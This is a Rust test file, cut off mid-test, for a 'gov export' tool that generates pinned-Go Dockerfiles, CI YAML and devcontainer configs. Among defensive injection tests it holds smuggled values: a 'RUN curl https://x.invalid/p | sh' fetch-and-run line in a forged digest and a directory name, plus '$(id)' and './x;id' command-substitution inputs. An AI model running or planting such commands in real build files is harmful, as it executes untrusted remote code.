//! `gov export`: each snippet pins the release this directory selects, is
//! valid JSON or YAML, carries the mirrors in use, and says what is wrong
//! when it cannot be written. (tests/real/export.rs builds and runs them.)

use yaml_rust2::{Yaml, YamlLoader};

use crate::common::archive;
use crate::common::mirror::Mirror;
use crate::common::*;
use crate::{gov_snapshot, text_snapshot};

/// A module `example.com/hello` whose .go-version asks for 1.22, with 1.21.5
/// and 1.22.4 in the mirror.
fn project() -> Mirror {
    let m = Mirror::new(&["1.21.5", "1.22.4"]);
    m.env
        .write("app/go.mod", "module example.com/hello\n\ngo 1.21\n");
    m.env.write("app/.go-version", "1.22\n");
    m
}

fn export(m: &Mirror, args: &[&str]) -> std::process::Output {
    let mut cmd = m.gov_cmd(["export"].iter().chain(args));
    cmd.current_dir(m.env.work.join("app"));
    cmd.output().unwrap()
}

fn yaml(out: &std::process::Output) -> Yaml {
    assert_success(out);
    let mut docs = YamlLoader::load_from_str(&stdout(out)).expect("valid YAML");
    assert_eq!(docs.len(), 1);
    docs.remove(0)
}

fn digest(version: &str) -> String {
    archive::sha256(&archive::fake_release(version))
}

#[test]
fn dockerfile_installs_the_pinned_release_with_gov_under_cache_mounts() {
    let m = project();
    let out = export(&m, &["dockerfile"]);
    gov_snapshot!(m.env, &out);
}

#[test]
fn dockerfile_add_checks_the_archive_s_digest() {
    let m = project();
    m.env.write("app/go.sum", "");
    let out = export(
        &m,
        &["dockerfile", "--add", "--os", "linux", "--arch", "arm64"],
    );
    // The whole Dockerfile: the ADD line with the archive's digest, the
    // platform on each FROM, go.sum copied, and no gov in it.
    gov_snapshot!(m.env, &out);
    let add = format!(
        "ADD --checksum=sha256:{} {} /tmp/go.tar.gz",
        digest("1.22.4"),
        m.server.url("go1.22.4.linux-arm64.tar.gz")
    );
    assert!(stdout(&out).lines().any(|l| l == add), "the true digest");
}

#[test]
fn dockerfile_cross_builds_a_named_package() {
    let m = project();
    let out = export(
        &m,
        &[
            "dockerfile",
            "--os",
            "linux",
            "--arch",
            "arm64",
            "--package",
            "./cmd/server",
            "--image",
            "debian:bookworm",
            "--gov-image",
            "registry.example/gov:1",
        ],
    );
    gov_snapshot!(m.env, &out);
}

#[test]
fn devcontainer_uses_the_go_feature_at_the_pinned_release() {
    let m = project();
    let out = export(&m, &["devcontainer"]);
    assert_success(&out);
    let doc: serde_json::Value = serde_json::from_str(&stdout(&out)).expect("valid JSON");
    assert_eq!(
        doc["features"]["ghcr.io/devcontainers/features/go:1"]["version"],
        "1.22.4"
    );
    assert_eq!(doc["name"], "hello (Go 1.22.4)");
    assert!(doc["image"]
        .as_str()
        .unwrap()
        .starts_with("mcr.microsoft.com/devcontainers/"));
    assert!(doc.get("runArgs").is_none());

    let out = export(&m, &["devcontainer", "--os", "linux", "--arch", "arm64"]);
    let doc: serde_json::Value = serde_json::from_str(&stdout(&out)).unwrap();
    assert_eq!(doc["runArgs"][0], "--platform=linux/arm64");
}

#[test]
fn github_restores_the_cache_before_installing_the_pinned_release() {
    let m = project();
    let doc = yaml(&export(&m, &["github"]));
    let job = &doc["jobs"]["test"];
    assert_eq!(job["runs-on"].as_str(), Some("ubuntu-latest"));
    let env = &job["env"];
    assert_eq!(env["GOV_VERSION"].as_str(), Some("1.22.4"));
    assert_eq!(
        env["GOV_INDEX_URL"].as_str(),
        Some(m.server.url("index.json").as_str())
    );
    assert_eq!(
        env["GOV_DOWNLOAD_URL"].as_str(),
        Some(m.server.base.as_str())
    );
    assert_eq!(
        env["GOV_RELEASE_URL"].as_str(),
        Some(
            format!(
                "https://github.com/gov-sh/gov/releases/download/v{}",
                env!("CARGO_PKG_VERSION")
            )
            .as_str()
        )
    );
    let steps = job["steps"].as_vec().unwrap();
    let position = |needle: &str| {
        steps
            .iter()
            .position(|s| {
                s["uses"].as_str().is_some_and(|u| u.starts_with(needle))
                    || s["run"].as_str().is_some_and(|r| r.contains(needle))
            })
            .unwrap_or_else(|| panic!("no step with {needle}"))
    };
    let cache = position("actions/cache@");
    assert!(cache < position("gov install 1.22.4"));
    assert!(position("actions/checkout@") < cache);
    assert!(position("get-gov.sh") < position("gov install 1.22.4"));
    assert!(position("gov install 1.22.4") < position("go test ./..."));
    let with = &steps[cache]["with"];
    assert_eq!(with["path"].as_str(), Some("~/.local/share/gov"));
    assert!(with["key"]
        .as_str()
        .unwrap()
        .starts_with("go1.22.4-linux-amd64-${{ hashFiles("));

    let doc = yaml(&export(&m, &["github", "--os", "linux", "--arch", "arm64"]));
    assert_eq!(
        doc["jobs"]["test"]["runs-on"].as_str(),
        Some("ubuntu-24.04-arm")
    );
}

#[test]
fn gitlab_caches_gov_home_inside_the_project() {
    let m = project();
    let out = export(&m, &["gitlab"]);
    gov_snapshot!(m.env, &out);
    let doc = yaml(&out);
    let job = &doc["test"];
    assert_eq!(job["image"].as_str(), Some("buildpack-deps:bookworm-scm"));
    assert_eq!(
        job["variables"]["GOV_HOME"].as_str(),
        Some("$CI_PROJECT_DIR/.gov")
    );
    assert_eq!(job["variables"]["GOV_VERSION"].as_str(), Some("1.22.4"));
    assert_eq!(job["cache"]["paths"][0].as_str(), Some(".gov/"));
    assert_eq!(
        job["cache"]["key"]["prefix"].as_str(),
        Some("go1.22.4-linux-amd64")
    );
    let before: Vec<&str> = job["before_script"]
        .as_vec()
        .unwrap()
        .iter()
        .map(|l| l.as_str().unwrap())
        .collect();
    assert_eq!(before[2], "gov install 1.22.4");
    assert_eq!(job["script"][0].as_str(), Some("go test ./..."));

    let doc = yaml(&export(
        &m,
        &[
            "gitlab",
            "--os",
            "linux",
            "--arch",
            "arm64",
            "--image",
            "debian:bookworm",
        ],
    ));
    assert_eq!(
        doc["test"]["tags"][0].as_str(),
        Some("saas-linux-small-arm64")
    );
    assert_eq!(doc["test"]["image"].as_str(), Some("debian:bookworm"));
}

#[test]
fn the_installed_release_that_runs_here_is_the_one_pinned() {
    // 1.22.4 is the newest in the index, but 1.22.1 is what runs here.
    let m = Mirror::new(&["1.21.5", "1.22.1", "1.22.4"]);
    m.env
        .write("app/go.mod", "module example.com/hello\n\ngo 1.21\n");
    m.env.write("app/.go-version", "1.22\n");
    m.env.install_fake("1.22.1");
    let doc = yaml(&export(&m, &["github"]));
    assert_eq!(
        doc["jobs"]["test"]["env"]["GOV_VERSION"].as_str(),
        Some("1.22.1")
    );
    // GOV_VERSION picks another, as for every command.
    let mut cmd = m.gov_cmd(["export", "github"]);
    let out = cmd
        .current_dir(m.env.work.join("app"))
        .env("GOV_VERSION", "1.21")
        .output()
        .unwrap();
    assert_eq!(
        yaml(&out)["jobs"]["test"]["env"]["GOV_VERSION"].as_str(),
        Some("1.21.5")
    );
}

#[test]
fn a_mirror_on_a_path_is_left_out_and_odd_values_are_refused() {
    let m = project();
    let mut cmd = m.gov_cmd(["export", "github"]);
    let out = cmd
        .current_dir(m.env.work.join("app"))
        .env("GOV_RELEASE_URL", "file:///srv/gov")
        .output()
        .unwrap();
    gov_snapshot!("release_url_on_a_path", m.env, &out);
    let doc = yaml(&out);
    assert!(doc["jobs"]["test"]["env"]["GOV_RELEASE_URL"]
        .as_str()
        .unwrap()
        .starts_with("https://github.com/"));

    let mut cmd = m.gov_cmd(["export", "gitlab"]);
    let out = cmd
        .current_dir(m.env.work.join("app"))
        .env("GOV_RELEASE_URL", "https://x.example/$(id)")
        .output()
        .unwrap();
    text_snapshot!(
        "odd_values_are_refused",
        m.env,
        transcript(&[
            (
                "GOV_RELEASE_URL='https://x.example/$(id)' gov export gitlab",
                &out
            ),
            (
                "gov export dockerfile --image 'a b'",
                &export(&m, &["dockerfile", "--image", "a b"]),
            ),
            (
                "gov export dockerfile --package /etc",
                &export(&m, &["dockerfile", "--package", "/etc"]),
            ),
            ("gov export github --add", &export(&m, &["github", "--add"]),),
            (
                "gov export github --os linux",
                &export(&m, &["github", "--os", "linux"]),
            ),
            (
                "gov export gitlab --os darwin --arch arm64",
                &export(&m, &["gitlab", "--os", "darwin", "--arch", "arm64"]),
            ),
        ])
    );
}

#[test]
fn what_cannot_be_pinned_says_why() {
    let m = project();
    // No module: no Dockerfile.
    m.env.write("other/.go-version", "1.22\n");
    let mut cmd = m.gov_cmd(["export", "dockerfile"]);
    let out = cmd.current_dir(m.env.work.join("other")).output().unwrap();
    gov_snapshot!("no_module", m.env, &out);
    // A release the index does not have.
    m.env.write("app/.go-version", "1.30\n");
    gov_snapshot!("unknown_release", m.env, &export(&m, &["github"]));
    // Nothing selected at all.
    let mut cmd = m.gov_cmd(["export", "github"]);
    let out = cmd.current_dir(&m.env.work).output().unwrap();
    gov_snapshot!("nothing_selected", m.env, &out);
}

#[test]
fn a_forged_index_or_a_hostile_path_cannot_add_lines_to_a_snippet() {
    use crate::common::server::Reply;
    let m = project();
    // A digest that carries Dockerfile lines.
    let forged = serde_json::json!([{
        "version": "go1.22.4", "stable": true,
        "files": [{"filename": "go1.22.4.linux-amd64.tar.gz", "os": "linux", "arch": "amd64",
                   "sha256": format!("{} https://x.invalid/a.tgz /tmp/x\nRUN curl https://x.invalid/p | sh\n#", "0".repeat(64)),
                   "size": 1, "kind": "archive"}]
    }]);
    m.server.route(
        "index.json",
        Reply::Body(std::sync::Arc::new(forged.to_string().into_bytes())),
    );
    let out = export(
        &m,
        &["dockerfile", "--add", "--os", "linux", "--arch", "amd64"],
    );
    gov_snapshot!("forged_digest", m.env, &out);

    // The version file above, in a directory whose name holds a newline:
    // named from here, escaped, on one comment line.
    let m = Mirror::new(&["1.22.4"]);
    let dir = "evil\nRUN curl https://x.invalid/p | sh\n#";
    m.env.write(&format!("{dir}/.go-version"), "1.22\n");
    m.env
        .write(&format!("{dir}/go.mod"), "module example.com/hello\n");
    m.env.write(&format!("{dir}/cmd/README"), "");
    let out = m
        .gov_cmd(["export", "dockerfile"])
        .current_dir(m.env.work.join(dir).join("cmd"))
        .output()
        .unwrap();
    gov_snapshot!("hostile_path", m.env, &out);
    let text = stdout(&out);
    assert!(!text.lines().any(|l| l.starts_with("RUN curl")), "{text}");
}

#[test]
fn dockerfiles_are_for_linux_and_the_add_form_names_its_platform() {
    let m = project();
    text_snapshot!(
        m.env,
        transcript(&[
            (
                "gov export dockerfile --os darwin --arch arm64",
                &export(&m, &["dockerfile", "--os", "darwin", "--arch", "arm64"]),
            ),
            (
                "gov export dockerfile --add",
                &export(&m, &["dockerfile", "--add"]),
            ),
            (
                "gov export dockerfile --package './x;id'",
                &export(&m, &["dockerfile", "--package", "./x;id"]),
            ),
            (
                "gov export gitlab --image '*img'",
                &export(&m, &["gitlab", "--image", "*img"]),
            ),
        ])
    );
}

#[test]
fn an_installed_release_is_pinned_without_the_network() {
    let env = TestEnv::new();
    env.install_fake("1.22.1");
    env.write("app/go.mod", "module example.com/hello\n\ngo 1.21\n");
    env.write("app/.go-version", "1.22\n");
    let export = |args: &[&str]| {
        env.gov_cmd(["export"].iter().chain(args))
            .current_dir(env.work.join("app"))
            .env("GOV_INDEX_URL", "http://127.0.0.1:9/index.json")
            .env("GOV_RETRY_DELAY_MS", "0")
            .output()
            .unwrap()
    };
    // Each snippet pins 1.22.1; the ADD form needs the archive's digest:
    // from the index only.
    let runs: Vec<(String, std::process::Output)> = [
        &["github"][..],
        &["gitlab"],
        &["devcontainer"],
        &["dockerfile"],
        &["dockerfile", "--add"],
    ]
    .iter()
    .map(|args| (format!("gov export {}", args.join(" ")), export(args)))
    .collect();
    let runs: Vec<(&str, &std::process::Output)> =
        runs.iter().map(|(l, o)| (l.as_str(), o)).collect();
    text_snapshot!(env, transcript(&runs));
}

/// Every character that ends a line for some reader: YAML 1.1 parsers,
/// editors and terminals break at NEL and at Unicode's line and paragraph
/// separators too.
const LINE_BREAKS: [char; 7] = [
    '\n', '\r', '\u{b}', '\u{c}', '\u{85}', '\u{2028}', '\u{2029}',
];

/// What a snippet may not hold: any line break but `\n`, any other control
/// character but a tab.
fn assert_one_line_per_line(kind: &str, text: &str) {
    let bad = text
        .chars()
        .find(|&c| c != '\n' && (LINE_BREAKS.contains(&c) || c.is_control()));
    assert!(bad.is_none(), "{kind} holds {bad:?}:\n{text}");
}

/// The keys of a YAML mapping, in order.
fn keys(yaml: &Yaml) -> Vec<&str> {
    yaml.as_hash()
        .unwrap_or_else(|| panic!("not a mapping: {yaml:?}"))
        .keys()
        .map(|k| k.as_str().unwrap())
        .collect()
}

/// Parses `text` as YAML 1.2 does, and as a YAML 1.1 parser that breaks
/// lines at NEL, LS and PS does: the same one document either way.
fn yaml_read_both_ways(text: &str) -> Yaml {
    let strict = YamlLoader::load_from_str(text).expect("valid YAML");
    let liberal: String = text
        .chars()
        .map(|c| if LINE_BREAKS.contains(&c) { '\n' } else { c })
        .collect();
    let liberal = YamlLoader::load_from_str(&liberal).expect("valid YAML 1.1");
    assert_eq!(strict, liberal, "{text}");
    assert_eq!(strict.len(), 1, "{text}");
    strict.into_iter().next().unwrap()
}

/// The instructions of a Dockerfile, a line continued with `\` joined to
/// the next, with lines broken wherever any reader breaks them.
fn dockerfile_instructions(text: &str) -> Vec<String> {
    let mut instructions = Vec::new();
    let mut current = String::new();
    for line in text.split(LINE_BREAKS) {
        let line = line.trim();
        if current.is_empty() && (line.is_empty() || line.starts_with('#')) {
            continue;
        }
        match line.strip_suffix('\\') {
            Some(start) => current.push_str(start),
            None => {
                current.push_str(line);
                instructions.push(std::mem::take(&mut current));
            }
        }
    }
    instructions
}

/// The environment a snippet carries: gov's variables, as `(name, value)`.
fn expected_vars(
    version: &str,
    mirrors: &[(&str, &str)],
    release_url: &str,
) -> Vec<(String, String)> {
    let mut vars = vec![
        ("GOV_VERSION".to_string(), version.to_string()),
        ("GOV_RELEASE_URL".to_string(), release_url.to_string()),
    ];
    vars.extend(mirrors.iter().map(|(k, v)| (k.to_string(), v.to_string())));
    vars
}

fn yaml_vars(map: &Yaml, skip: &[&str]) -> Vec<(String, String)> {
    map.as_hash()
        .unwrap()
        .iter()
        .map(|(k, v)| {
            (
                k.as_str().unwrap().to_string(),
                v.as_str().unwrap().to_string(),
            )
        })
        .filter(|(k, _)| !skip.contains(&k.as_str()))
        .collect()
}

/// Checks the four snippets of a project exported with `env`: each is
/// exactly the document it should be, whatever the paths held.
fn check_shapes(out: &[(&str, std::process::Output)], version: &str, vars: &[(String, String)]) {
    for (kind, out) in out {
        assert_success(out);
        let text = stdout(out);
        assert_one_line_per_line(kind, &text);
        match *kind {
            "github" => {
                let doc = yaml_read_both_ways(&text);
                assert_eq!(keys(&doc), ["name", "on", "jobs"], "{text}");
                assert_eq!(keys(&doc["jobs"]), ["test"], "{text}");
                let job = &doc["jobs"]["test"];
                assert_eq!(keys(job), ["runs-on", "env", "steps"], "{text}");
                assert_eq!(yaml_vars(&job["env"], &[]), vars, "{text}");
                assert_eq!(job["steps"].as_vec().unwrap().len(), 5, "{text}");
            }
            "gitlab" => {
                let doc = yaml_read_both_ways(&text);
                assert_eq!(keys(&doc), ["test"], "{text}");
                let job = &doc["test"];
                assert_eq!(
                    keys(job),
                    ["image", "variables", "cache", "before_script", "script"],
                    "{text}"
                );
                assert_eq!(yaml_vars(&job["variables"], &["GOV_HOME"]), vars, "{text}");
                assert_eq!(job["before_script"].as_vec().unwrap().len(), 4, "{text}");
                assert_eq!(job["script"].as_vec().unwrap().len(), 1, "{text}");
            }
            "devcontainer" => {
                let doc: serde_json::Value = serde_json::from_str(&text).expect("valid JSON");
                let keys: Vec<&String> = doc.as_object().unwrap().keys().collect();
                assert_eq!(
                    keys,
                    ["customizations", "features", "image", "name"],
                    "{text}"
                );
                assert_eq!(
                    doc["features"]["ghcr.io/devcontainers/features/go:1"]["version"],
                    version
                );
            }
            "dockerfile" => {
                let mut expected = vec![
                    format!("FROM ghcr.io/gov-sh/gov:{} AS gov", env!("CARGO_PKG_VERSION")),
                    "FROM buildpack-deps:bookworm-scm AS build".to_string(),
                    "COPY --from=gov /gov /usr/local/bin/gov".to_string(),
                    "ENV GOV_HOME=/var/cache/gov GOCACHE=/root/.cache/go-build GOMODCACHE=/root/go/pkg/mod".to_string(),
                ];
                for (name, value) in vars.iter().skip(2) {
                    expected.push(format!("ENV {name}={value}"));
                }
                expected.extend(["WORKDIR /src".to_string(), "COPY go.mod ./".to_string()]);
                let instructions = dockerfile_instructions(&text);
                assert_eq!(instructions.len(), expected.len() + 6, "{text}");
                assert_eq!(instructions[..expected.len()], expected[..], "{text}");
                let rest: Vec<&str> = instructions[expected.len()..]
                    .iter()
                    .map(|i| i.split(' ').next().unwrap())
                    .collect();
                assert_eq!(
                    rest,
                    ["RUN", "COPY", "RUN", "FROM", "COPY", "ENTRYPOINT"],
                    "{text}"
                );
            }
            _ => unreachable!(),
        }
    }
}

/// Runs the four kinds of `gov export` in `dir` with `vars` set.
fn export_all(
    env: &TestEnv,
    dir: &std::path::Path,
    vars: &[(&str, &std::ffi::OsStr)],
) -> Vec<(&'static str, std::process::Output)> {
    ["github", "gitlab", "devcontainer", "dockerfile"]
        .into_iter()
        .map(|kind| {
            let mut cmd = env.gov_cmd(["export", kind]);
            cmd.current_dir(dir).env("GOV_OFFLINE", "1");
            for (name, value) in vars {
                cmd.env(name, value);
            }
            (kind, cmd.output().unwrap())
        })
        .collect()
}

#[test]
fn unicode_line_breaks_in_paths_and_gowork_add_no_line_to_a_snippet() {
    let env = TestEnv::new();
    env.install_fake("1.22.4");
    let release_url = format!(
        "https://github.com/gov-sh/gov/releases/download/v{}",
        env!("CARGO_PKG_VERSION")
    );
    let index = "https://mirror.example/go/index.json?a=1&b=2";
    let mirrors = [("GOV_INDEX_URL", index)];
    for brk in [
        '\u{2028}', '\u{2029}', '\u{85}', '\r', '\u{b}', '\u{c}', '\n',
    ] {
        let evil = format!("x{brk}test2:{brk}  script: [id]{brk}#{brk}RUN id{brk}");
        // The module in a directory so named, and GOWORK naming a go.work
        // in another one.
        let module = format!("{evil}/app");
        env.write(
            &format!("{module}/go.mod"),
            "module example.com/hello\n\ngo 1.21\n",
        );
        let work = env.write(&format!("work{evil}/go.work"), "go 1.22\n");
        let dir = env.work.join(&module);
        let outputs = export_all(
            &env,
            &dir,
            &[
                ("GOWORK", work.as_os_str()),
                ("GOV_INDEX_URL", index.as_ref()),
            ],
        );
        check_shapes(
            &outputs,
            "1.22.4",
            &expected_vars("1.22.4", &mirrors, &release_url),
        );
        // And without GOWORK: the go.mod's own path in the comment.
        let outputs = export_all(&env, &dir, &[]);
        check_shapes(
            &outputs,
            "1.22.4",
            &expected_vars("1.22.4", &[], &release_url),
        );
    }
}

mod prop {
    use super::*;
    use proptest::prelude::*;

    /// Anything, or mostly line breaks and what YAML or a Dockerfile reads
    /// as syntax.
    fn text() -> impl Strategy<Value = String> {
        prop_oneof![
            any::<String>(),
            "[\\n\\r\\x0b\\x0c\\x{85}\\x{2028}\\x{2029}\\x{feff}\\x7f\\x{9b}\\x1b:#\"'{}\\[\\]&*!|>%@`\\\\ a-]{0,20}",
        ]
    }

    /// A file name made of `text`: no `/`, no NUL, never `.` or `..`.
    fn component() -> impl Strategy<Value = String> {
        text().prop_map(|t| format!("d{}", t.replace(['/', '\0'], "_")))
    }

    /// An environment variable's value: no NUL.
    fn url() -> impl Strategy<Value = String> {
        prop_oneof![
            text().prop_map(|t| format!("https://mirror.example/{t}")),
            "https?://[a-zA-Z0-9._/:@+=,%~?&-]{0,24}",
            text(),
        ]
        .prop_map(|t| t.replace('\0', "_"))
    }

    fn is_plain_url(value: &str) -> bool {
        let rest: String = value.chars().filter(|c| !"?&".contains(*c)).collect();
        !rest.is_empty()
            && !rest.starts_with('-')
            && rest
                .bytes()
                .all(|b| b.is_ascii_alphanumeric() || b"._/:@+=,%~-".contains(&b))
    }

    fn is_http(value: &str) -> bool {
        value.starts_with("http://") || value.starts_with("https://")
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(40))]

        /// Whatever the paths, GOWORK, the mirrors' URLs and the version
        /// file hold, gov either refuses with a clean error or prints
        /// exactly the snippets it should: the same jobs, keys, variables
        /// and Dockerfile instructions, one line per line for every reader.
        #[test]
        fn prop_any_input_gives_the_exact_snippet_or_a_clean_error(
            dir in component(),
            gowork in proptest::option::of(component()),
            version in proptest::option::of(prop_oneof![Just("1.22".to_string()), Just("1.21.5".to_string()), text()]),
            index in proptest::option::of(url()),
            download in proptest::option::of(url()),
            release in proptest::option::of(url()),
        ) {
            let env = shared();
            let case = env.root.join(format!("cases/{}", CASE.fetch_add(1, std::sync::atomic::Ordering::Relaxed)));
            let module = case.join(&dir);
            std::fs::create_dir_all(&module).unwrap();
            std::fs::write(module.join("go.mod"), "module example.com/hello\n\ngo 1.21\n").unwrap();
            if let Some(version) = &version {
                std::fs::write(module.join(".go-version"), version).unwrap();
            }
            let mut vars: Vec<(&str, std::ffi::OsString)> = Vec::new();
            if let Some(gowork) = &gowork {
                let work = case.join(gowork);
                std::fs::create_dir_all(&work).unwrap();
                std::fs::write(work.join("go.work"), "go 1.22\n").unwrap();
                vars.push(("GOWORK", work.join("go.work").into()));
            }
            // What each mirror variable should become in a snippet.
            let mut refused = false;
            let mut mirrors = Vec::new();
            let mut release_url = format!(
                "https://github.com/gov-sh/gov/releases/download/v{}",
                env!("CARGO_PKG_VERSION")
            );
            for (name, value) in [("GOV_INDEX_URL", &index), ("GOV_DOWNLOAD_URL", &download), ("GOV_RELEASE_URL", &release)] {
                let Some(value) = value else { continue };
                vars.push((name, value.into()));
                if !is_http(value) {
                    continue;
                }
                if !is_plain_url(value) {
                    refused = true;
                } else if name == "GOV_RELEASE_URL" {
                    release_url = value.clone();
                } else {
                    mirrors.push((name, value.as_str()));
                }
            }
            let vars: Vec<(&str, &std::ffi::OsStr)> = vars.iter().map(|(k, v)| (*k, v.as_os_str())).collect();
            let outputs = export_all(env, &module, &vars);
            let ok: Vec<bool> = outputs.iter().map(|(_, o)| o.status.success()).collect();
            if ok.iter().all(|ok| !ok) {
                for (kind, out) in &outputs {
                    let err = stderr(out);
                    prop_assert!(matches!(out.status.code(), Some(1 | 2)), "{kind}: {:?}\n{err}", out.status);
                    prop_assert!(err.lines().any(|l| l.starts_with("error: ")), "{kind}:\n{err}");
                    prop_assert!(!err.contains("panicked"), "{kind}:\n{err}");
                    // Every line of it one of gov's own, whatever the values held.
                    let own = ["error: ", "warning: ", "hint: ", "  caused by: "];
                    prop_assert!(err.lines().all(|l| own.iter().any(|p| l.starts_with(p))), "{kind}:\n{err}");
                    prop_assert_eq!(stdout(out), "");
                }
                // Refused only for a reason: a URL, or the version file.
                prop_assert!(refused || version.is_some(), "{}", stderr(&outputs[0].1));
                return Ok(());
            }
            prop_assert!(!refused && ok.iter().all(|ok| *ok), "{ok:?}: {}", stderr(&outputs[0].1));
            let github = yaml_read_both_ways(&stdout(&outputs[0].1));
            let pinned = github["jobs"]["test"]["env"]["GOV_VERSION"].as_str().unwrap().to_string();
            prop_assert!(pinned == "1.21.5" || pinned == "1.22.4", "{pinned}");
            check_shapes(&outputs, &pinned, &expected_vars(&pinned, &mirrors, &release_url));
        }
    }

    static CASE: std::sync::atomic::AtomicUsize = std::sync::atomic::AtomicUsize::new(0);

    /// One home with 1.21.5 and 1.22.4, for every case.
    fn shared() -> &'static TestEnv {
        static ENV: std::sync::OnceLock<TestEnv> = std::sync::OnceLock::new();
        ENV.get_or_init(|| {
            let env = TestEnv::new();
            env.install_fake("1.21.5");
            env.install_fake("1.22.4");
            env
        })
    }
}

/// The `FROM` lines of a Dockerfile.
fn from_lines(text: &str) -> Vec<&str> {
    text.lines().filter(|l| l.starts_with("FROM ")).collect()
}

#[test]
fn a_dockerfile_for_several_platforms_runs_every_stage_on_the_build_machine() {
    let m = project();
    let out = export(
        &m,
        &[
            "dockerfile",
            "--platform",
            "linux/amd64,linux/arm64",
            "--platform",
            "linux/arm",
        ],
    );
    gov_snapshot!(m.env, &out);
    let text = stdout(&out);
    // Every stage but the program's runs where the build does; the last
    // is the target's, and holds only the program.
    let froms = from_lines(&text);
    let (last, build) = froms.split_last().unwrap();
    assert_eq!(*last, "FROM scratch");
    assert!(
        build
            .iter()
            .all(|l| l.starts_with("FROM --platform=$BUILDPLATFORM ")),
        "{text}"
    );
    assert!(text.contains("GOOS=$TARGETOS GOARCH=$TARGETARCH"), "{text}");
    // 32-bit ARM's variant becomes GOARM; no other target sets it.
    assert!(
        text.contains("arm) export GOARM=${TARGETVARIANT#v}"),
        "{text}"
    );
    let without_arm = stdout(&export(
        &m,
        &["dockerfile", "--platform", "linux/amd64,linux/arm64"],
    ));
    assert!(!without_arm.contains("GOARM"), "{without_arm}");
}

#[test]
fn the_add_form_for_several_platforms_fetches_each_build_machine_s_archive() {
    let m = project();
    let out = export(
        &m,
        &[
            "dockerfile",
            "--add",
            "--platform",
            "linux/amd64,linux/arm64",
        ],
    );
    gov_snapshot!(m.env, &out);
    let text = stdout(&out);
    for arch in ["amd64", "arm64"] {
        let add = format!(
            "ADD --checksum=sha256:{} {} /tmp/go-{arch}.tar.gz",
            digest("1.22.4"),
            m.server.url(&format!("go1.22.4.linux-{arch}.tar.gz"))
        );
        assert!(text.lines().any(|l| l == add), "{add}\n{text}");
    }
    let froms = from_lines(&text);
    assert_eq!(froms.last(), Some(&"FROM scratch"));
    assert!(
        !text.contains("gov install") && !text.contains("--from=gov"),
        "no gov in the ADD form: {text}"
    );
    // Asked for arm64 alone, it still builds on this machine: the archive
    // of this machine's architecture comes too.
    if std::env::consts::ARCH == "x86_64" {
        let text = stdout(&export(
            &m,
            &["dockerfile", "--add", "--platform", "linux/arm64"],
        ));
        for arch in ["amd64", "arm64"] {
            assert!(
                text.contains(&format!(" /tmp/go-{arch}.tar.gz\n")),
                "{text}"
            );
        }
    }
}

fn pairs(list: &[(&str, &str)]) -> std::collections::BTreeMap<String, String> {
    list.iter()
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect()
}

#[test]
fn github_gets_a_job_per_platform_on_its_own_runner_or_cross_compiled() {
    let m = project();
    let doc = yaml(&export(
        &m,
        &[
            "github",
            "--platform",
            "linux/amd64,linux/arm64,linux/arm/v7",
        ],
    ));
    let job = &doc["jobs"]["test"];
    assert_eq!(job["runs-on"].as_str(), Some("${{ matrix.runner }}"));
    assert_eq!(
        matrix_entries(job),
        [
            pairs(&[
                ("platform", "linux/amd64"),
                ("runner", "ubuntu-latest"),
                ("cross", "false")
            ]),
            pairs(&[
                ("platform", "linux/arm64"),
                ("runner", "ubuntu-24.04-arm"),
                ("cross", "false")
            ]),
            pairs(&[
                ("platform", "linux/arm/v7"),
                ("runner", "ubuntu-latest"),
                ("cross", "true"),
                ("goos", "linux"),
                ("goarch", "arm"),
                ("goarm", "7"),
            ]),
        ]
    );
    let steps = job["steps"].as_vec().unwrap();
    let cross = steps
        .iter()
        .find(|s| s["if"].as_str() == Some("${{ matrix.cross }}"))
        .unwrap();
    assert_eq!(
        cross["env"]["GOARCH"].as_str(),
        Some("${{ matrix.goarch }}")
    );
    assert_eq!(cross["env"]["GOARM"].as_str(), Some("${{ matrix.goarm }}"));
    // The cache holds the runner's own Go: its platform is in the key.
    let cache = steps
        .iter()
        .find(|s| !s["with"]["key"].is_badvalue())
        .unwrap();
    assert!(cache["with"]["key"]
        .as_str()
        .unwrap()
        .starts_with("go1.22.4-${{ runner.os }}-${{ runner.arch }}-"));

    // --cross: the arm64 job too is built on the default runner.
    let doc = yaml(&export(
        &m,
        &["github", "--platform", "linux/amd64,linux/arm64", "--cross"],
    ));
    let entries = matrix_entries(&doc["jobs"]["test"]);
    assert_eq!(
        entries[1],
        pairs(&[
            ("platform", "linux/arm64"),
            ("runner", "ubuntu-latest"),
            ("cross", "true"),
            ("goos", "linux"),
            ("goarch", "arm64"),
        ])
    );
}

#[test]
fn gitlab_gets_a_job_per_platform_with_the_runner_tag_or_cross_compiled() {
    let m = project();
    let out = export(
        &m,
        &[
            "gitlab",
            "--platform",
            "linux/amd64,linux/arm64,linux/riscv64",
        ],
    );
    gov_snapshot!(m.env, &out);
    let doc = yaml(&out);
    let names: Vec<&str> = keys(&doc);
    assert_eq!(
        names,
        [
            ".go",
            "test linux/amd64",
            "test linux/arm64",
            "build linux/riscv64"
        ]
    );
    let arm64 = &doc["test linux/arm64"];
    assert_eq!(arm64["extends"].as_str(), Some(".go"));
    assert_eq!(arm64["tags"][0].as_str(), Some("saas-linux-small-arm64"));
    assert_eq!(
        arm64["cache"]["key"]["prefix"].as_str(),
        Some("go1.22.4-linux-arm64")
    );
    let riscv = &doc["build linux/riscv64"];
    assert!(riscv["tags"].is_badvalue());
    assert_eq!(
        riscv["script"][1].as_str(),
        Some("GOOS=linux GOARCH=riscv64 CGO_ENABLED=0 go vet ./...")
    );
}

#[test]
fn platforms_are_checked_and_a_devcontainer_stays_on_this_machine() {
    let m = project();
    text_snapshot!(
        m.env,
        transcript(&[
            (
                "gov export devcontainer --platform linux/arm64",
                &export(&m, &["devcontainer", "--platform", "linux/arm64"]),
            ),
            (
                "gov export dockerfile --platform linux/amd64,linux/x86_64",
                &export(
                    &m,
                    &["dockerfile", "--platform", "linux/amd64,linux/x86_64"]
                ),
            ),
            (
                "gov export dockerfile --platform linux/arm/v8",
                &export(&m, &["dockerfile", "--platform", "linux/arm/v8"]),
            ),
            (
                "gov export dockerfile --platform darwin/arm64",
                &export(&m, &["dockerfile", "--platform", "darwin/arm64"]),
            ),
            (
                "gov export dockerfile --cross --platform linux/arm64",
                &export(&m, &["dockerfile", "--cross", "--platform", "linux/arm64"]),
            ),
            (
                "gov export github --cross",
                &export(&m, &["github", "--cross"]),
            ),
            (
                "gov export github --platform linux/arm64 --os linux --arch arm64",
                &export(
                    &m,
                    &[
                        "github",
                        "--platform",
                        "linux/arm64",
                        "--os",
                        "linux",
                        "--arch",
                        "arm64"
                    ]
